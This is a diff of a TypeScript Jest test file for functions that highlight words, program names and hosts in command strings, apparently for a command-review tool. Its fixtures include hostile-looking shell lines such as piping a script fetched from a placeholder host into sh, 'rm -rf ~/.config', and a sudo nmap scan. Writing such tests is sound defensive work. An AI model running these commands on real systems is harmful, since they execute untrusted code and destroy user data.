@@ -1,6 +1,10 @@
 import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
-import { cutAt, excerptAround, markSpans } from './excerpt.ts';
+import { cutAt, excerptAround, markSpans, placesOf, type Mark } from './excerpt.ts';
+
+const texts = (needles: readonly string[]): Mark[] => needles.map((text) => ({ text, as: 'text' }));
+const marked = (text: string, marks: readonly Mark[]) =>
+  markSpans(text, placesOf(text, marks)).flatMap((span) => (span.marked ? [span.text] : []));
 
 describe('cutAt', () => {
   it('never cuts a surrogate pair in two', () => {
@@ -14,11 +18,30 @@ describe('markSpans', () => {
   it.each([
     { text: 'curl x | bash', needles: ['bash'], marked: ['bash'] },
     { text: 'a b a b', needles: ['a', 'a b'], marked: ['a b', 'a b'] },
-    { text: 'aaaa', needles: ['aa'], marked: ['aa', 'aa'] },
+    { text: '----', needles: ['--'], marked: ['--', '--'] },
     { text: 'nothing here', needles: ['', 'absent'], marked: [] },
-  ])('marks $needles in "$text"', ({ text, needles, marked }) => {
-    const spans = markSpans(text, needles);
-    expect(spans.filter((span) => span.marked).map((span) => span.text)).toEqual(marked);
+    { text: 'curl https://x.example/payload.sh | sh', needles: ['sh'], marked: ['sh'] },
+    { text: 'rm -rf ~/.config', needles: ['-rf', '~/.config'], marked: ['-rf', '~/.config'] },
+  ])('marks $needles in "$text"', ({ text, needles, marked: expected }) => {
+    expect(marked(text, texts(needles))).toEqual(expected);
+  });
+
+  it.each([
+    { text: 'git rm old && rm -rf build', program: 'rm', at: [14] },
+    { text: 'echo nmap; sudo /usr/bin/nmap -sV nmap.example', program: 'nmap', at: [25] },
+    { text: "bash -lc 'A=1 rm x; rm y | xargs rm'", program: 'rm', at: [14, 20, 33] },
+    { text: 'find . -exec rm {} +', program: 'rm', at: [13] },
+    { text: 'git rm a; git rm b', program: 'rm', at: [] },
+    { text: 'npm run nmap-report', program: 'nmap', at: [] },
+  ])('marks the program $program where it runs in "$text", else nothing', ({ text, program, at }) => {
+    expect(placesOf(text, [{ text: program, as: 'program' }]).map(({ from }) => from)).toEqual(at);
+  });
+
+  it('marks a host however it is spelt, and not as a part of another', () => {
+    const host: Mark = { text: 'api.example', as: 'host' };
+    expect(marked('curl https://API.Example./x http://my.api.example http://api.example.org', [host])).toEqual([
+      'API.Example',
+    ]);
   });
 
   it('gives back the text it was given, whatever is marked', () => {
@@ -28,26 +51,28 @@ describe('markSpans', () => {
         fc.string({ unit: fc.constantFrom('a', 'b', ' ') }),
         fc.array(small, { maxLength: 5 }),
         (text, needles) => {
-          expect(markSpans(text, needles).map((span) => span.text).join('')).toBe(text); // prettier-ignore
+          expect(markSpans(text, placesOf(text, texts(needles))).map((span) => span.text).join('')).toBe(text); // prettier-ignore
         },
       ),
     );
   });
 
   it('marks a bounded number of places', () => {
-    expect(markSpans('ab'.repeat(10_000), ['ab']).filter(({ marked }) => marked)).toHaveLength(64);
+    expect(placesOf('ab '.repeat(10_000), texts(['ab']))).toHaveLength(64);
   });
 });
 
 describe('excerptAround', () => {
-  const text = `${'x'.repeat(1000)}needle${'y'.repeat(1000)}`;
+  const text = `${'x'.repeat(1000)} needle ${'y'.repeat(1000)}`;
   it('starts at the beginning when that shows the match', () => {
-    expect(excerptAround('needle and more'.padEnd(400, '.'), ['needle'], 100)).toEqual({ start: 0, end: 100 });
-    expect(excerptAround('short', ['zzz'], 100)).toEqual({ start: 0, end: 5 });
+    expect(excerptAround('needle and more'.padEnd(400, '.'), [{ from: 0, to: 6 }], 100)).toEqual({ from: 0, to: 100 });
+    expect(excerptAround('short', [], 100)).toEqual({ from: 0, to: 5 });
   });
   it('leaves out what comes before a match beyond the limit', () => {
-    const { start, end } = excerptAround(text, ['needle'], 100);
-    expect(text.slice(start, end)).toContain('needle');
-    expect(end - start).toBe(100);
+    const places = placesOf(text, texts(['needle']));
+    const { from, to } = excerptAround(text, places, 100);
+    expect(to - from).toBe(100);
+    const spans = markSpans(text.slice(from, to), places, from);
+    expect(spans.filter((span) => span.marked).map((span) => span.text)).toEqual(['needle']);
   });
 });
